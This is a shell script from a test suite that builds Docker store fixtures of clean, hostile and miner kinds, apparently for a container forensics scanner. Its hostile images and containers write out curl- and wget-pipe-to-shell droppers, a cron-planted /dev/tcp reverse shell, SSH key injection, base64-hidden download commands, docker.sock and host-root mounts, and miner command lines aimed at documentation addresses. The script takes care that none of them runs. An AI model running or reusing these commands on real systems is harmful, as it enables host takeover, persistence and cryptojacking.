#!/bin/sh
# make-store.sh - make a fixture store with a real engine, as root
#
# usage: tests/stores/make-store.sh clean|hostile|miner
#
# Writes tests/fixtures/store-docker-KIND.tar.zst (a data-root of Docker
# 20.10, overlay2) and tests/fixtures/store-docker-KIND/engine/ (what the
# engine itself said about it before it was stopped). The tests need only
# these, not an engine.
#
# Needs: Debian's docker.io, busybox-static, gcc, python3, zstd, jq, curl is
# NOT needed: nothing hostile ever runs. Images are built on one whose
# /bin/sh is a program that does nothing and returns 0, so that a RUN line is
# recorded to the letter and none of it is executed. Hostile containers are
# created and never started, or start /bin/busybox with a harmless script and
# without network. All addresses are for documentation (RFC 5737).
#
# The engine runs in a mount namespace of its own in which /var/lib/docker is
# a scratch directory, so that the state has its usual paths and the machine's
# own store, if it has one, is neither seen nor touched.

set -eu
kind=$1
case $kind in clean | hostile | miner) ;; *) echo "usage: $0 clean|hostile|miner" >&2; exit 2 ;; esac
here=$(cd "$(dirname "$0")" && pwd)
out=$(dirname "$here")/fixtures
if [ -z "${MAKE_STORE_DIR:-}" ]; then
	W=$(mktemp -d /var/tmp/make-store.XXXXXX)
	trap '[ -n "${KEEP:-}" ] || rm -rf "$W"' EXIT
	mkdir "$W/lib" "$W/lib/docker" "$W/build-lib" "$W/build-lib/docker"
	# Phase 1 builds, phase 2 pulls what was built and makes containers.
	MAKE_STORE_DIR=$W unshare -m --propagation private "$0" "$kind" build
	MAKE_STORE_DIR=$W unshare -m --propagation private "$0" "$kind" store
	# Outside of the namespace: what was mounted inside is not seen here.
	cd "$W/lib/docker"
	rm -rf tmp/* runtimes/*
	find . -type s -delete
	tar --xattrs --xattrs-include='*' --numeric-owner --format=posix \
		--sort=name --pax-option=delete=atime,delete=ctime -cf - . |
		zstd -q -19 --ultra --long=27 -f -o "$out/store-docker-$kind.tar.zst"
	rm -rf "$out/store-docker-$kind/engine"
	mkdir -p "$out/store-docker-$kind"
	cp -r "$W/engine" "$out/store-docker-$kind/engine"
	ls -l "$out/store-docker-$kind.tar.zst"
	exit 0
fi

W=$MAKE_STORE_DIR
phase=$2
S=$W/$phase.sock
export DOCKER_API_VERSION=1.41 DOCKER_BUILDKIT=0 DOCKER_HOST=unix://$S
export DOCKER_CONFIG=$W/config PATH=/usr/local/sbin:/usr/sbin:/sbin:$PATH
umask 022
registry=
trap 'kill -KILL $registry $(cat "$W/dockerd.pid" 2>/dev/null) 2>/dev/null || :' EXIT

# Runs in the background for as long as the phase: start OPTIONS...
start() {
	dockerd --data-root /var/lib/docker --exec-root "$W/exec" -H "$DOCKER_HOST" \
		--bridge=none --iptables=false -p "$W/dockerd.pid" "$@" >"$W/$phase.log" 2>&1 &
	i=0
	until docker version >/dev/null 2>&1; do
		i=$((i + 1))
		[ $i -lt 100 ] || { tail -n 20 "$W/$phase.log" >&2; exit 1; }
		sleep 0.2
	done
}
# SIGKILL, as the power cut of a host that is imaged: running stays running.
stop() {
	sync
	kill -KILL "$(cat "$W/dockerd.pid")"
	rm -f "$W/dockerd.pid"
	for p in "$@"; do
		shim=$(awk '{print $4}' "/proc/$p/stat")
		kill -KILL "$p" || :
		kill -KILL "$shim" || :
	done
	sleep 0.5
}

# ---- phase 1: images ----------------------------------------------------

# image NAME <<Dockerfile: built in the context $C, saved
image() {
	cat >"$C/Dockerfile"
	docker build --network=none --force-rm -q -t "$1" "$C" >/dev/null
	echo "built $1" >&2
}
context() {
	C=$W/context
	mkdir -p "$C/root/bin" "$C/root/etc/default" "$C/root/usr/bin" "$C/root/usr/share/doc/base" \
		"$C/root/var/lib/app/data" "$C/root/var/spool/cron" "$C/root/root" "$C/root/tmp" "$C/root/opt/old"
	printf '%s\n' 'void _start(void) { __asm__ volatile("syscall" : : "a"(60), "D"(0)); }' |
		gcc -xc -nostdlib -static -s -o "$C/root/bin/sh" -
	cp /bin/busybox "$C/root/bin/busybox"
	cd "$C/root"
	echo 'root:x:0:0:root:/root:/bin/sh' >etc/passwd
	echo 'www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin' >>etc/passwd
	echo 'root:x:0:' >etc/group
	printf 'PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\nID=debian\nVERSION_ID="12"\n' >etc/os-release
	echo 'LANG=C.UTF-8' >etc/default/locale
	echo one >var/lib/app/data/one
	echo two >var/lib/app/data/two
	echo three >var/lib/app/three
	echo doc >usr/share/doc/base/README
	echo old >opt/old/file
	ln -s ../../bin/busybox usr/bin/env
	ln -s /etc/os-release etc/release
	chmod 1777 tmp
	chmod 0700 root
	chown 33:33 var/lib/app/data/two
	find . -exec touch -h -d '2026-01-02T03:04:05.678901234Z' {} +
	tar --numeric-owner --sort=name -cf "$C/rootfs.tar" .
	cd "$W"
	image base:12 <<'D'
FROM scratch
ADD rootfs.tar /
CMD ["bash"]
D
}

build_clean() {
	image nginx:1.25 <<'D'
FROM base:12
LABEL maintainer="NGINX Docker Maintainers <docker-maint@example.org>"
ENV NGINX_VERSION=1.25.3 PKG_RELEASE=1~bookworm
RUN set -x && groupadd --system --gid 101 nginx && apt-get update && apt-get install --no-install-recommends --no-install-suggests -y gnupg1 ca-certificates && NGINX_GPGKEY=573BFD6B3D8FBC641079A6ABABF5BD827BD9BF62; NGINX_GPGKEY_PATH=/usr/share/keyrings/nginx-archive-keyring.gpg; export GNUPGHOME="$(mktemp -d)"; found=''; for server in hkp://keyserver.example.org:80 pgp.example.org ; do echo "Fetching GPG key $NGINX_GPGKEY from $server"; gpg1 --keyserver "$server" --keyserver-options timeout=10 --recv-keys "$NGINX_GPGKEY" && found=yes && break; done; test -z "$found" && echo >&2 "error: failed to fetch GPG key $NGINX_GPGKEY" && exit 1; gpg1 --export "$NGINX_GPGKEY" > "$NGINX_GPGKEY_PATH" ; rm -rf "$GNUPGHOME"; apt-get remove --purge --auto-remove -y gnupg1 && rm -rf /var/lib/apt/lists/*
COPY docker-entrypoint.sh /
COPY index.html /usr/share/nginx/html/
ENTRYPOINT ["/docker-entrypoint.sh"]
EXPOSE 80 443/tcp
STOPSIGNAL SIGQUIT
CMD ["nginx", "-g", "daemon off;"]
D
	image node:20 <<'D'
FROM base:12
RUN groupadd --gid 1000 node && useradd --uid 1000 --gid node --shell /bin/bash --create-home node
ENV NODE_VERSION=20.10.0
RUN ARCH= && dpkgArch="$(dpkg --print-architecture)" && set -ex && for key in 4ED778F539E3634C779C87C6D7062848A1AB005C 141F07595B7B3FFE74309A937405533BE57C7D57; do gpg --batch --keyserver hkps://keys.example.org --recv-keys "$key" || gpg --batch --keyserver keyserver.example.org --recv-keys "$key" ; done && curl -fsSLO --compressed "https://dist.example.org/v$NODE_VERSION/node-v$NODE_VERSION-linux-x64.tar.xz" && curl -fsSLO --compressed "https://dist.example.org/v$NODE_VERSION/SHASUMS256.txt.asc" && gpg --batch --decrypt --output SHASUMS256.txt SHASUMS256.txt.asc && grep " node-v$NODE_VERSION-linux-x64.tar.xz\$" SHASUMS256.txt | sha256sum -c - && tar -xJf "node-v$NODE_VERSION-linux-x64.tar.xz" -C /usr/local --strip-components=1 --no-same-owner && rm "node-v$NODE_VERSION-linux-x64.tar.xz" SHASUMS256.txt.asc SHASUMS256.txt
RUN set -ex && curl -fsSL "https://dist.example.org/yarn-v1.22.tar.gz" | tar xz -C /opt/ && ln -s /opt/yarn/bin/yarn /usr/local/bin/yarn
ENTRYPOINT ["docker-entrypoint.sh"]
CMD ["node"]
D
	image postgres:15 <<'D'
FROM base:12
RUN set -eux; apt-get update; apt-get install -y --no-install-recommends gnupg wget; wget -O /usr/local/bin/gosu "https://dist.example.org/gosu-amd64"; wget -O /usr/local/bin/gosu.asc "https://dist.example.org/gosu-amd64.asc"; export GNUPGHOME="$(mktemp -d)"; gpg --batch --keyserver hkps://keys.example.org --recv-keys B42F6819007F00F88E364FD4036A9C25BF357DD4; gpg --batch --verify /usr/local/bin/gosu.asc /usr/local/bin/gosu; chmod +x /usr/local/bin/gosu; gosu --version; gosu nobody true
RUN wget --quiet -O - https://www.example.org/media/keys/ACCC4CF8.asc | apt-key add - && echo "deb https://apt.example.org/pub/repos/apt/ bookworm-pgdg main" > /etc/apt/sources.list.d/pgdg.list
ENV PG_MAJOR=15 POSTGRES_PASSWORD=not-a-secret
VOLUME /var/lib/postgresql/data
HEALTHCHECK --interval=30s --timeout=3s CMD pg_isready -U postgres || exit 1
STOPSIGNAL SIGINT
EXPOSE 5432
CMD ["postgres"]
D
	image jenkins/jenkins:lts <<'D'
FROM base:12
RUN apt-get update && apt-get install -y lsb-release curl && curl -fsSLo /usr/share/keyrings/docker-archive-keyring.asc https://download.example.org/linux/debian/gpg && curl -fsSL https://download.example.org/linux/debian/gpg | gpg --dearmor -o /usr/share/keyrings/docker.gpg
RUN curl -fsSL https://deb.example.org/setup_20.x | bash - && apt-get install -y nodejs
ARG JENKINS_SHA=1163c4554dc93439c5eef02b06a8d74f98ca920bbc012c2b8a089d414cfa8075
RUN curl -fsSL https://repo.example.org/public/jenkins-war-2.426.war -o /usr/share/jenkins/jenkins.war && echo "${JENKINS_SHA}  /usr/share/jenkins/jenkins.war" | sha256sum -c -
USER www-data
WORKDIR /var/jenkins_home
ONBUILD RUN echo built upon
ENTRYPOINT ["/usr/bin/tini", "--", "/usr/local/bin/jenkins.sh"]
D
	image docker:24 <<'D'
FROM base:12
ENV DOCKER_TLS_CERTDIR=/certs
RUN set -eux; wget -O 'docker.tgz' 'https://download.example.org/linux/static/stable/x86_64/docker-24.0.7.tgz'; tar --extract --file docker.tgz --strip-components 1 --directory /usr/local/bin/ --no-same-owner 'docker/docker'; rm docker.tgz; docker --version
COPY docker-entrypoint.sh /usr/local/bin/modprobe
ENTRYPOINT ["docker-entrypoint.sh"]
CMD ["sh"]
D
	image registry.example.org/ops/backup:2.1 <<'D'
FROM base:12
LABEL org.opencontainers.image.title=backup org.opencontainers.image.vendor="Example Ops"
RUN apt-get update && apt-get install -y cron postgresql-client curl
COPY backup.cron /etc/cron.d/backup
COPY root.crontab /etc/crontabs/root
COPY backup.sh /usr/local/bin/backup
CMD ["cron", "-f"]
D
}

build_hostile() {
	# What Sysdig published of the container's command, with a
	# documentation address.
	image docker123321/tomcat:latest <<'D'
FROM base:12
RUN apt-get update && apt-get install -y curl cron
CMD ["sh", "-c", "echo \"* * * * * curl -s http://192.0.2.196:8220/logo3.jpg | bash -s\" >> /mnt/etc/crontab"]
D
	image docker123321/tomcat11:latest <<'D'
FROM base:12
ENTRYPOINT ["/bin/bash", "-c", "echo '* * * * * root /bin/bash -i >& /dev/tcp/192.0.2.196/8888 0>&1' >> /mnt/etc/crontab"]
D
	image docker123321/tomcat22:latest <<'D'
FROM base:12
CMD ["sh", "-c", "mkdir -p /mnt/root/.ssh; echo 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAAgQDfixture root@fixture.example.org' >> /mnt/root/.ssh/authorized_keys"]
D
	image docker123321/mysql:latest <<'D'
FROM base:12
RUN apt-get update && apt-get install -y curl
RUN curl -o /usr/bin/minerd http://192.0.2.196:8220/minerd && chmod 777 /usr/bin/minerd
RUN curl -s http://192.0.2.196:8220/logo3.jpg | bash -s
COPY config.json /var/tmp/config.json
CMD ["/usr/bin/minerd", "-B", "-a", "cryptonight", "-o", "stratum+tcp://192.0.2.44:3333", "-u", "fixture-wallet", "-p", "x"]
D
	image docker123321/cron:latest <<'D'
FROM base:12
RUN wget -q -O - http://192.0.2.196:8220/cr.sh | sh
CMD ["sh", "-c", "echo '*/5 * * * * root wget -q -O - http://192.0.2.196:8220/cr.sh | sh > /dev/null 2>&1' > /mnt/etc/cron.d/root"]
D
	# Only under an innocent name: history and settings tell.
	image metrics/agent:3.2 <<'D'
FROM base:12
LABEL maintainer="metrics team"
RUN python -c 'import urllib;exec(urllib.urlopen("http://192.0.2.77:8220/i.py").read())'
RUN echo Y3VybCAtcyBodHRwOi8vMTkyLjAuMi4xOTY6ODIyMC9sb2dvMy5qcGcgfCBiYXNo | base64 -d | sh
ENTRYPOINT ["/var/tmp/jaav", "-c", "config.json", "-t", "4", "-o", "stratum+tcp://192.0.2.44:3333"]
D
	image pocosow/centos:7.6.1810 <<'D'
FROM base:12
COPY bash.sh /var/sbin/bash
ENTRYPOINT ["/var/sbin/bash"]
D
	# The bystander: nothing of this may be blamed.
	image httpd:2.4 <<'D'
FROM base:12
ENV HTTPD_PREFIX=/usr/local/apache2
RUN set -eux; apt-get update; apt-get install -y wget gnupg; wget -O httpd.tar.bz2 "https://dist.example.org/httpd-2.4.58.tar.bz2"; echo "fa16d72a078210a54c47dd5bef2f8b9b8a01d94909a51453956b3ec6442ea4c5 *httpd.tar.bz2" | sha256sum -c -; tar -xf httpd.tar.bz2; rm httpd.tar.bz2
COPY index.html /usr/local/apache2/htdocs/
EXPOSE 80
CMD ["httpd-foreground"]
D
}

# What only bytes tell: no name, history or setting is known as hostile.
build_miner() {
	imitate "$C/nginx"
	printf '#!/bin/sh\n# fixture: never run\ncurl -fsSL http://192.0.2.196/u -o /tmp/.u && chmod +x /tmp/.u && /tmp/.u\n' >"$C/update"
	chmod 755 "$C/nginx" "$C/update"
	image web/cache:2.0 <<'D'
FROM base:12
COPY nginx /usr/lib/cache/nginx
CMD ["/usr/lib/cache/nginx", "-g", "daemon off;"]
D
	# The same layer below; the file is removed above it: it does not show.
	image web/clean:2.1 <<'D'
FROM web/cache:2.0
COPY empty /usr/lib/cache/nginx
D
	# The same bytes under another name, in a layer of its own.
	image tools/build:1 <<'D'
FROM base:12
COPY nginx /opt/tools/cc1
COPY index.html /srv/index.html
D
	image blog/site:7 <<'D'
FROM base:12
COPY index.html /srv/index.html
CMD ["httpd"]
D
}
# A file that only looks like a miner: the header of an ELF program without
# any code, and words that XMRig's documentation has.
imitate() {
	python3 - "$1" <<'P'
import struct, sys
head = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHIQQQIHHHHHH",
    2, 62, 1, 0, 0, 0, 0, 64, 56, 0, 64, 0, 0)
words = """--donate-level --donate-over-proxy --max-threads-hint --randomx-init
--randomx-no-numa --huge-pages-jit --health-print-time --nicehash --rig-id
rx/0 rx/wow rx/arq cn-lite/1 cn-heavy/xhv argon2/chukwa
{"id":1,"jsonrpc":"2.0","method":"login","params":{"agent":""}}
keepalived job_id nonce stratum+tcp:// stratum+ssl:// new job from %s
fixture: no code is in this file"""
open(sys.argv[1], "wb").write(head + bytes(4096 - len(head)) +
    b"\0".join(words.encode().split(b"\n")) + bytes(512))
P
}

if [ "$phase" = build ]; then
	mount --bind "$W/build-lib" /var/lib
	start
	context
	printf '#!/bin/sh\nexec "$@"\n' >"$C/docker-entrypoint.sh"
	echo '<h1>it works</h1>' >"$C/index.html"
	printf '# nightly dump\nMAILTO=ops@example.org\n30 2 * * * root pg_dump -h db.internal app | gzip > /backup/app.sql.gz\n' >"$C/backup.cron"
	printf '*/15 * * * * run-parts /etc/periodic/15min\n0 3 * * * /usr/local/bin/backup\n' >"$C/root.crontab"
	printf '#!/bin/sh\nexec pg_dump "$@"\n' >"$C/backup.sh"
	printf '{"url":"192.0.2.44:3333","user":"fixture-wallet","pass":"x","algo":"cryptonight"}\n' >"$C/config.json"
	printf '#!/bin/sh\n# fixture: the name of the worm, none of its content\nexit 0\n' >"$C/bash.sh"
	chmod 755 "$C"/*.sh
	: >"$C/empty"
	build_$kind
	docker save -o "$W/saved.tar" $(docker images --format '{{.Repository}}:{{.Tag}}' | grep -v '^<none>')
	stop
	exit 0
fi

# ---- phase 2: pulls, containers -----------------------------------------

mount --bind "$W/lib" /var/lib
python3 "$here/registry.py" "$W/port" "$W/saved.tar" &
registry=$!
until [ -s "$W/port" ]; do sleep 0.1; done
start --registry-mirror="http://127.0.0.1:$(cat "$W/port")"
C=$W/context2
mkdir -p "$C"
pull() {
	for r; do
		docker pull -q "$r" >/dev/null
		echo "pulled $r" >&2
	done
}
sh() { # script run in a container by its real shell
	docker run --network=none "$@" >/dev/null
}

store_clean() {
	pull base:12 nginx:1.25 node:20 postgres:15 jenkins/jenkins:lts docker:24
	docker tag nginx:1.25 nginx:latest
	docker tag nginx:1.25 registry.example.org:5000/web/proxy:stable
	docker load -q -i "$W/backup.tar" >/dev/null
	docker tag registry.example.org/ops/backup:2.1 registry.example.org/ops/backup:latest
	docker rmi -f base:12 >/dev/null # its layers stay, its name goes

	# built here: it has a parent, a shell of its own and a deleted file
	cat >"$C/Dockerfile" <<'D'
FROM node:20
SHELL ["/bin/busybox", "sh", "-c"]
RUN rm /usr/share/doc/base/README && rm -r /opt/old && mkdir /opt/old && echo new >/opt/old/new
ENV APP=shop TOKEN=
LABEL build=7 empty=
CMD node /srv/app.js
D
	docker build --network=none --force-rm -q -t shop:7 "$C" >/dev/null

	docker create --name web --restart=always -p 127.0.0.1:8080:80 -p 8443:443/tcp -p 53:53/udp -p 9000 \
		--hostname web.example.org --log-opt max-size=10m nginx:1.25 >/dev/null
	docker volume create pgdata >/dev/null
	sh --name db -v pgdata:/var/lib/postgresql/data -e LANG=C.UTF-8 -l role=db -l empty= \
		--entrypoint /bin/busybox postgres:15 sh -c 'echo 15 >/var/lib/postgresql/data/PG_VERSION'
	sh --name clock -v /etc/localtime:/etc/localtime:ro --tmpfs /scratch:size=1m --read-only \
		--entrypoint /bin/busybox nginx:1.25 true
	docker create --name never --user 33:33 --workdir /srv --cap-add NET_ADMIN --cap-drop ALL \
		--security-opt no-new-privileges --memory 64m node:20 node --version >/dev/null
	sh --name failed --restart=on-failure:2 --entrypoint /bin/busybox node:20 sh -c 'exit 3' || :
	sh --name twice --entrypoint /bin/busybox nginx:1.25 sh -c 'echo x >>/tmp/count'
	docker start -a twice >/dev/null
	sh --name changed -v /data --entrypoint /bin/busybox shop:7 sh -c '
		b="/bin/busybox"
		$b rm /etc/default/locale                   # D in a directory of the image
		$b rm -rf /var/lib/app/data; $b mkdir /var/lib/app/data
		echo four >/var/lib/app/data/four; echo one >/var/lib/app/data/one
		echo changed >>/var/lib/app/three           # C, its directory unchanged
		$b chmod 0750 /usr/share                    # only a mode
		$b chown 33 /root                           # only an owner
		$b ln -s /bin/busybox /usr/local-link; $b ln -s nowhere /etc/broken
		$b rm /etc/release; echo file >/etc/release # a link becomes a file
		$b mkfifo /tmp/pipe; $b mknod /tmp/null c 1 3
		$b mkdir -p /srv/new/deep/er; echo x >/srv/new/deep/er/x
		$b ln /srv/new/deep/er/x /srv/new/hard
		$b mv /usr/share/doc /usr/doc               # a directory moves
		$b rm /bin/sh; $b mkdir /bin/sh             # a file becomes a directory
		echo back >/opt/old/file                    # what the image had deleted
		echo odd >"/tmp/new
line"; echo odd >"/tmp/$(printf "\377\033[31m")"
		$b chmod 4755 /srv/new/hard; $b touch -d "2020-01-01 00:00:00" /srv/new/deep'
	docker run -d --network=none --name running --entrypoint /bin/busybox nginx:1.25 sleep 3600 >/dev/null
	docker run -d --network=none --name paused --entrypoint /bin/busybox nginx:1.25 sleep 3600 >/dev/null
	docker pause paused >/dev/null 2>&1 || :
	docker create --name mounts --mount type=bind,src=/usr/share,dst=/www,readonly,bind-propagation=rslave \
		--mount type=volume,src=cache,dst=/cache,volume-opt=type=tmpfs,volume-opt=device=tmpfs \
		--mount type=tmpfs,dst=/run/app,tmpfs-size=1048576 \
		-v /opt/odd:/odd:z --device /dev/null:/dev/x:r --link web:proxy --pid=host --ipc=host --uts=host \
		--health-cmd 'wget -q -O- http://127.0.0.1/ || exit 1' jenkins/jenkins:lts >/dev/null
	docker create --name inherits --volumes-from db:ro --network container:running nginx:latest >/dev/null
}

store_hostile() {
	pull docker123321/tomcat docker123321/tomcat11 docker123321/tomcat22 docker123321/mysql \
		docker123321/cron metrics/agent:3.2 pocosow/centos:7.6.1810 httpd:2.4
	docker tag docker123321/mysql:latest webcache:1.4

	# Would write the cron line into the host: created, never started.
	docker create --name k8s_test-container_superte -v /etc:/mnt/etc docker123321/tomcat:latest >/dev/null
	docker create --name ssh -v /root:/mnt/root docker123321/tomcat22:latest >/dev/null
	docker create --name ops -v /:/host:rw -e A=1 httpd:2.4 sh -c \
		'echo "* * * * * root curl -fsSL http://192.0.2.196:8220/cr.sh | sh" > /host/etc/cron.d/apache' >/dev/null
	docker create --name helper --privileged -v /var/run/docker.sock:/var/run/docker.sock \
		--pid=host webcache:1.4 >/dev/null
	# The engine forgets the name, the container does not.
	docker create --name forgotten -v /etc:/mnt/etc docker123321/cron:latest >/dev/null
	docker rmi -f docker123321/cron:latest >/dev/null
	docker create --name worm --restart unless-stopped -e localip=192.0.2.10 pocosow/centos:7.6.1810 >/dev/null
	docker create --name agent --restart always metrics/agent:3.2 >/dev/null
	# Ran: wrote cron files, into its own layer only.
	sh --name dropper --entrypoint /bin/busybox docker123321/mysql:latest sh -c '
		b="/bin/busybox"
		$b mkdir -p /etc/cron.d /var/spool/cron/crontabs /var/tmp
		echo "* * * * * root curl -s http://192.0.2.196:8220/logo3.jpg | bash -s" >/etc/cron.d/x
		echo "* * * * * curl -s http://192.0.2.196:8220/logo3.jpg | bash -s" >/var/spool/cron/crontabs/root
		$b chmod 600 /var/spool/cron/crontabs/root
		echo "* * * * * curl -s http://192.0.2.196:8220/logo3.jpg | bash -s" >>/etc/crontab
		printf "#!/bin/sh\n# fixture: the name, none of the content\n" >/var/tmp/jaav; $b chmod 777 /var/tmp/jaav'
	# The bystander.
	sh --name web --entrypoint /bin/busybox httpd:2.4 sh -c 'echo 1 >/tmp/httpd.pid'
	docker create --name web2 -p 80:80 --restart=always httpd:2.4 >/dev/null
}

store_miner() {
	pull web/cache:2.0 web/clean:2.1 tools/build:1 blog/site:7
	docker create --name cleaned web/clean:2.1 >/dev/null
	docker create --name build tools/build:1 >/dev/null
	# Drops what lies in a volume here; it is copied, never run.
	mkdir -p "$W/drop"
	imitate "$W/drop/m"
	printf '#!/bin/sh\n# fixture: never run\nwget -qO- http://198.51.100.7/x.sh | sh\n' >"$W/drop/x.sh"
	sh --name blog -v "$W/drop:/drop:ro" --entrypoint /bin/busybox blog/site:7 sh -c '
		b="/bin/busybox"
		$b mkdir -p /tmp/.cache /usr/local/sbin
		$b cp /drop/m /tmp/.cache/kworker; $b chmod 755 /tmp/.cache/kworker
		$b cp /drop/x.sh /usr/local/sbin/logrotate; $b chmod 755 /usr/local/sbin/logrotate
		echo ok >/tmp/state'
	sh --name blog2 --entrypoint /bin/busybox blog/site:7 sh -c 'echo 1 >/tmp/state'
}

if [ "$kind" = clean ]; then
	# loaded, not pulled: an image of the house
	python3 - "$W/saved.tar" "$W/backup.tar" <<'P'
import io, json, sys, tarfile
src = tarfile.open(sys.argv[1])
one = [m for m in json.load(src.extractfile("manifest.json")) if any("backup" in t for t in m["RepoTags"])]
dst = tarfile.open(sys.argv[2], "w")
def add(name, data):
    ti = tarfile.TarInfo(name)
    ti.size = len(data)
    dst.addfile(ti, io.BytesIO(data))
add("manifest.json", json.dumps(one).encode())
for n in [one[0]["Config"]] + one[0]["Layers"]:
    add(n, src.extractfile(n).read())
dst.close()
P
fi
store_$kind
kill "$registry"
registry=

# What the engine says about all this.
E=$W/engine
mkdir -p "$E"
docker images --digests --no-trunc --format '{{json .}}' | sort >"$E/images.json"
docker ps -a --no-trunc --format '{{json .}}' | sort >"$E/ps.json"
docker image inspect $(docker images -aq --no-trunc | sort -u) | jq -S . >"$E/image-inspect.json"
docker container inspect $(docker ps -aq --no-trunc | sort) | jq -S . >"$E/container-inspect.json"
for id in $(docker images -aq --no-trunc | sort -u); do
	docker history --no-trunc --human=false --format '{{json .}}' "$id" |
		jq -c --arg id "$id" '. + {Image: $id}'
done >"$E/history.json"
for id in $(docker ps -aq --no-trunc | sort); do
	curl_json() { python3 -c '
import http.client, json, socket, sys
c = http.client.HTTPConnection("x")
c.sock = socket.socket(socket.AF_UNIX); c.sock.connect(sys.argv[1])
c.request("GET", sys.argv[2]); r = json.loads(c.getresponse().read())
for x in r or []: print(json.dumps(dict(x, Id=sys.argv[3])))' "$@"; }
	curl_json "$S" "/v1.41/containers/$id/changes" "$id"
done >"$E/changes.json"
docker volume inspect $(docker volume ls -q) 2>/dev/null | jq -S . >"$E/volumes.json" || :
docker unpause paused >/dev/null 2>&1 && docker pause paused >/dev/null 2>&1 || :
pids=$(docker ps -q | while read -r c; do docker inspect -f '{{.State.Pid}}' "$c"; done)
stop $pids
